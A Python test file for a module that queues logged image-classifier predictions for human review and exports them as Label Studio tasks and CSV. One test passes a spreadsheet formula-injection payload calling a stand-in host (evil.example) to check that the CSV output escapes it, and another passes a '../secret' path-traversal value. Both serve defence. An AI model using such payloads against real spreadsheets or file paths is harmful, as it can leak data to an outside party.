"""What people should look at first, as tasks for them, and what nobody reviewed."""

import csv
import io
import json
import math
from collections import Counter
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import numpy as np
import pytest

from psc_core.answers import CLASSIFICATION_SCORES
from psc_core.errors import DataError, UsageError
from psc_core.log.labels import CANNOT_TELL, Label, Labels, labels_of, read_answers, write_labels
from psc_core.log.review import (
    DIVERSE,
    NEAR,
    SAMPLE,
    UNUSUAL,
    ReviewQueue,
    label_studio_prefix,
    review,
    to_csv,
    to_label_studio,
)
from psc_core.log.store import Log, image_path
from tests.psc_core.log.support import TIME, add_values, digest, make_log, put_rows, row


def ids(chosen: list[object]) -> list[str]:
    return [each.row["request_id"] for each in chosen]  # type: ignore[attr-defined]


def test_lists_take_turns(tmp_path: Path) -> None:
    log = make_log(tmp_path, 0)
    rows = [row(n, ood_p_value=0.2 + n / 100, ood_score=float(-n), predictive_entropy=0.1) for n in range(20)]
    rows[7].update(sampled=True)
    rows[11].update(ood_p_value=0.06)  # Nearest to the one threshold, the next to the other.
    rows[12].update(predictive_entropy=0.6)
    rows[3].update(ood_score=9.0)
    rows[5].update(probabilities=[0.99, 0.01])  # Unlike all others.
    put_rows(log, rows)
    chosen = review(log, Labels())
    assert [(each.row["request_id"], each.reason) for each in chosen[:4]] == [
        ("r7", SAMPLE), ("r11", NEAR), ("r3", UNUSUAL), ("r5", DIVERSE),
    ]  # fmt: skip
    assert [each.row["request_id"] for each in chosen if each.reason == NEAR][:2] == ["r11", "r12"]
    assert sorted(ids(chosen)) == sorted(each["request_id"] for each in rows)
    assert [each.row["request_id"] for each in chosen if each.is_sampled] == ["r7"]
    counts = Counter(each.reason for each in chosen)
    assert counts[SAMPLE] == 1 and {counts[NEAR], counts[UNUSUAL], counts[DIVERSE]} <= {6, 7}
    assert ids(review(log, Labels(), limit=3)) == ["r7", "r11", "r3"]


def test_diverse_images_are_the_farthest_from_all_chosen_before(tmp_path: Path) -> None:
    log, generator = make_log(tmp_path, 0), np.random.default_rng(0)
    shares, scores = generator.random(40), generator.normal(size=(40, 3))
    rows = [
        row(n, probabilities=[float(share), float(1 - share)], ood_score=a, predictive_entropy=b, ood_p_value=c)
        for n, (share, (a, b, c)) in enumerate(zip(shares, scores.tolist(), strict=True))
    ]
    put_rows(log, rows)
    values = np.array([[each["ood_p_value"], *each["probabilities"]] for each in rows], np.float32)
    others = np.array([[each["ood_score"], each["predictive_entropy"]] for each in rows], np.float32)
    points = np.hstack([values, others]).astype(np.float64)
    points /= points.std(axis=0)
    before: list[int] = []
    for each in review(log, Labels()):
        at = int(each.row["request_id"].removeprefix("r"))
        if each.reason == DIVERSE:
            distances = [min(math.dist(point, points[k]) for k in before) for point in points]
            assert distances[at] == pytest.approx(max(distances))
        before.append(at)


def test_labelled_and_repeated_images_are_skipped(tmp_path: Path) -> None:
    log = make_log(tmp_path, 3)
    put_rows(log, [row(8, image_sha256=digest(1)), row(9, image_path=None)])
    add_values(log)
    labels = Labels([Label("r0", 0, None, "cannot_tell", None, "x", TIME)])
    assert sorted(ids(review(log, labels))) in (["r1", "r2", "r90"], ["r2", "r8", "r90"])
    assert ids(review(log, labels, model="v")) == ["r90"]
    with pytest.raises(UsageError, match="no rows of model none; it has m, v"):
        review(log, labels, model="none")
    again = Labels([Label("r1", 0, digest(1), "cannot_tell", None, "x", TIME, model="m")])
    assert sorted(ids(review(log, again))) == ["r0", "r2", "r90"]  # Nor the same bytes, in r8.
    add_values(log, "w")
    assert sorted(each.model for each in review(log, again)) == ["m", "m", "v", "w"]  # Another answer for each.


def test_the_random_sample_alone_is_in_the_order_of_its_digests(tmp_path: Path) -> None:
    """Who stops anywhere has reviewed a random part of each day."""
    log = make_log(tmp_path, 0)
    days = [TIME, TIME + timedelta(days=1)]
    put_rows(log, [row(n, sampled=n % 3 > 0, time=days[n % 2] + timedelta(seconds=n)) for n in range(20)])
    expected = sorted((n for n in range(20) if n % 3 > 0), key=lambda n: (-(n % 2), digest(n)))
    chosen = review(log, Labels(), sampled=True)
    assert ids(chosen) == [f"r{n}" for n in expected] and {each.reason for each in chosen} == {SAMPLE}
    assert ids([each for each in review(log, Labels()) if each.reason == SAMPLE])[0] == f"r{expected[0]}"


def test_the_random_sample_of_all_versions_is_in_one_order(tmp_path: Path) -> None:
    log = make_log(tmp_path, 0)
    for version, numbers in (("v0", range(8)), ("v1", range(8, 20))):
        days = {n: TIME + timedelta(days=n // 5) for n in numbers}
        put_rows(log, [row(n, sampled=True, bundle_version=version, time=time) for n, time in days.items()])
    expected = sorted(range(20), key=lambda n: (-(n // 5), digest(n)))
    assert ids(review(log, Labels(), sampled=True)) == [f"r{n}" for n in expected]


def test_tasks_of_label_studio(tmp_path: Path) -> None:
    log = make_log(tmp_path, 4)
    add_values(log)
    chosen = review(log, Labels())
    tasks = json.loads(to_label_studio(chosen, label_studio_prefix(log)))
    assert len(tasks) == 5
    scores = [each["predictions"][0]["score"] for each in tasks]
    assert scores == sorted(scores) and scores[0] >= 0 and scores[-1] < 1
    for each, image in zip(tasks, chosen, strict=True):
        (prediction,) = each["predictions"]
        assert prediction["model_version"] == image.row["bundle_version"]
        assert each["data"]["image"] == f"/data/local-files/?d={image.row['image_path']}"
        assert each["data"]["sampled"] is False and each["data"]["reason"]
        if image.row["label"] is None:
            assert prediction["result"] == []
        else:
            (region,) = prediction["result"]
            assert (region["type"], region["value"]) == ("choices", {"choices": ["dog"]})
    for each in tasks:  # What people make of them is read back.
        each["annotations"] = [{"result": each["predictions"][0]["result"], "completed_by": 1}]
    (tmp_path / "done.json").write_text(json.dumps(tasks))
    assert {each.label for each in labels_of(log, read_answers(tmp_path / "done.json"))} == {"dog"}


def test_lines_of_a_csv(tmp_path: Path) -> None:
    log = make_log(tmp_path, 4)
    text = to_csv(review(log, Labels()), "https://images/")
    lines = list(csv.DictReader(io.StringIO(text)))
    assert len(lines) == 4 and all(line["image"].startswith("https://images/images/") for line in lines)
    (tmp_path / "labels.csv").write_text(text)
    assert labels_of(log, read_answers(tmp_path / "labels.csv")) == []
    (tmp_path / "labels.csv").write_text(text.replace("False,\r\n", "False,cat\r\n"))
    assert len(labels_of(log, read_answers(tmp_path / "labels.csv"))) == 4
    assert to_csv([], "").startswith("request_id,")


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A2,"seven")', "+1", "-1", "@x", "\t=1", "\r=1"])
def test_no_class_is_a_formula_in_a_csv(tmp_path: Path, name: str) -> None:
    chosen = review(make_log(tmp_path, 2), Labels())
    chosen = [replace(chosen[0], row=chosen[0].row | {"label": name}), chosen[1]]
    lines = list(csv.DictReader(io.StringIO(to_csv(chosen, ""), newline="")))
    assert [line["predicted"] for line in lines] == [f"'{name}", "dog"]
    assert json.loads(to_label_studio(chosen, ""))[0]["predictions"][0]["result"][0]["value"]["choices"] == [name]


def test_numbers_are_reviewed_blind(tmp_path: Path) -> None:
    log = make_log(tmp_path, 4)
    add_values(log)
    chosen = sorted(review(log, Labels()), key=lambda image: image.row["label"] is not None)  # The number first.
    lines = list(csv.DictReader(io.StringIO(to_csv(chosen, ""))))
    assert [line["predicted"] for line in lines] == ["", "dog", "dog", "dog", "dog"]
    assert "predicted" not in to_csv(chosen[:1], "")
    assert "predicted" not in json.loads(to_label_studio(chosen[:1], ""))[0]["data"]


FAR = 3600.0
ABSTAINED = ["abstain_ood", "abstain_ambiguous"]


def abstained(index: int, **changes: object) -> dict[str, object]:
    return row(index, **{"decision": "abstain_ood", "time": TIME + timedelta(seconds=index), **changes})


def names(log: Log, limit: int = 100, seconds: float = FAR) -> list[str]:
    return [each.row["request_id"] for each in ReviewQueue(log).newest(limit, seconds, ABSTAINED, None)]


def write_label(log: Log, request_id: str | None, sha256: str | None, model: str | None = "m") -> None:
    index = None if request_id is None else 0
    write_labels(log, [Label(request_id, index, sha256, CANNOT_TELL, None, "test", TIME, model)])


def test_the_newest_come_first_and_accepted_ones_never(tmp_path: Path) -> None:
    log = make_log(tmp_path, 2)
    put_rows(log, [abstained(1200 - number) for number in range(600)])
    put_rows(log, [abstained(5000, decision="abstain_ambiguous"), row(5001)], day="2026-03-02")
    put_rows(log, [abstained(4000)], model="other")
    add_values(log)
    assert names(log, 4) == ["r5000", "r4000", "r1200", "r1199"]
    assert len(names(log, 10_000)) == 602 and names(log, seconds=-1.0) == []
    first = ReviewQueue(log).newest(1, FAR, ABSTAINED, None)[0]
    assert (first.model, set(first.scores)) == ("m", set(CLASSIFICATION_SCORES)) and len(
        first.row["probabilities"]
    ) == 2


def test_what_was_reviewed_erased_or_not_stored_is_skipped(tmp_path: Path) -> None:
    log = make_log(tmp_path, 0)
    same = {"image_sha256": digest(1), "image_path": f"images/{digest(1)[:2]}/{digest(1)}.png"}
    rows = [abstained(index) for index in range(5)]
    repeated = [abstained(index, **same) for index in (6, 7)]
    unknown = [abstained(8, image_path=None), abstained(9, image_sha256=None), abstained(10, image_path="../secret")]
    put_rows(log, rows)
    for index, each in enumerate((*repeated, *unknown)):
        put_rows(log, [{**each, "request_id": "r1"}], day=f"2026-02-0{index + 1}")  # The images are those of r1.
    assert names(log) == ["r4", "r3", "r2", "r1", "r0"]
    write_label(log, "r3", None)
    write_label(log, None, digest(0))
    write_label(log, "elsewhere", digest(1), model="other")  # Another model may have other classes.
    write_label(log, "elsewhere", digest(1), model=None)
    assert names(log) == ["r4", "r2", "r1"]
    write_label(log, "elsewhere", digest(1))  # The same bytes in another request.
    write_label(log, "r4", None)
    assert names(log) == ["r2"]
    assert names(make_log(tmp_path / "empty", 0)) == []


def test_what_only_a_cluster_has_named_comes_by_cluster(tmp_path: Path) -> None:
    log = make_log(tmp_path, 8)  # Accepted ones too.
    put_rows(log, [abstained(8), abstained(9, image_path=None)])
    put_rows(log, [abstained(21, image_sha256=digest(1), image_path=image_path(digest(1), "png"))], model="other")
    queue = ReviewQueue(log)

    def name(text: str | None, *indices: int, model: str = "m", kind: str = "none_of_the_classes", at: int = 0) -> None:
        time = TIME + timedelta(seconds=at)
        write_labels(log, [Label(None, None, digest(n), kind, text, "x", time, model) for n in indices])

    def got(limit: int = 99, model: str | None = None) -> list[tuple[str, str, str | None]]:
        found = queue.to_name(limit, FAR, model)
        assert all("probabilities" in each.row for each in found)
        return [(each.model, each.row["request_id"], each.name) for each in found]

    rows = {name: log.get(name) for name, _ in log.names("model=m/day=2026-03-01")}
    for each in rows:
        log.put(each, b"PAR1 torn")
    assert got() == [] and queue.back_to is None  # No file of rows is opened.
    assert ReviewQueue(log).to_name(9, -1.0, None) == []
    for each, content in rows.items():
        log.put(each, content)
    name("cluster 1", 1, 2)
    name("cluster 2", 3, 4, 8, 9)
    name("cluster 1", 1, model="other")
    name("cluster 12 of them", 5)
    name("cluster 3", 6, kind="label")  # A class of that name.
    name(None, 7)
    second = sorted([("m", f"r{n}", "cluster 2") for n in (3, 4, 8)])
    assert sorted(got(3)) == second and sorted(got()[:3]) == second
    assert sorted(got()[3:5]) == [("m", "r1", "cluster 1"), ("m", "r2", "cluster 1")]
    assert got()[5:] == got(model="other") == [("other", "r21", "cluster 1")]
    assert names(log) == [] and queue.to_name(9, -1.0, None) == [] and queue.back_to is not None
    name("hedgehog", 4, 8, at=1)
    assert sorted(got()[:2]) == [("m", "r1", "cluster 1"), ("m", "r2", "cluster 1")]
    name("cluster 1", 3, at=1)  # Grouped anew.
    assert sorted(got(model="m")) == [("m", f"r{n}", "cluster 1") for n in (1, 2, 3)]


def test_labels_are_read_once_and_as_time_allows(tmp_path: Path) -> None:
    log = make_log(tmp_path, 0)
    put_rows(log, [abstained(index) for index in range(4)])
    images, got = (
        ReviewQueue(log),
        lambda: [each.row["request_id"] for each in images.newest(9, FAR, ABSTAINED, None)],
    )
    write_label(log, "r3", digest(3))
    assert got() == ["r2", "r1", "r0"]
    log.put("labels/part-1.parquet", b"PAR1 torn")
    with pytest.raises(DataError):
        got()
    log.delete("labels/part-1.parquet")
    (known,) = (name for name, _ in log.names("labels"))
    log.put(known, b"PAR1 torn")  # It is not looked at again.
    write_label(log, None, digest(1))
    assert got() == ["r2", "r0"] and images.newest(9, -1.0, ABSTAINED, None) == []


def test_chunks_of_reviewed_ones_hide_none_behind_them(tmp_path: Path) -> None:
    log = make_log(tmp_path, 0)
    put_rows(log, [abstained(index) for index in range(1100)])
    write_labels(log, [Label(f"r{n}", 0, digest(n), CANNOT_TELL, None, "test", TIME) for n in range(3, 1100)])
    assert names(log) == ["r2", "r1", "r0"]


@pytest.mark.parametrize("name", ["labels/part-1.parquet", "model=m/day=2026-03-01/part-z.parquet"])
def test_a_damaged_file_is_an_error(tmp_path: Path, name: str) -> None:
    log = make_log(tmp_path, 0)
    put_rows(log, [abstained(1)])
    log.put(name, b"PAR1 torn")
    with pytest.raises(DataError):
        names(log)
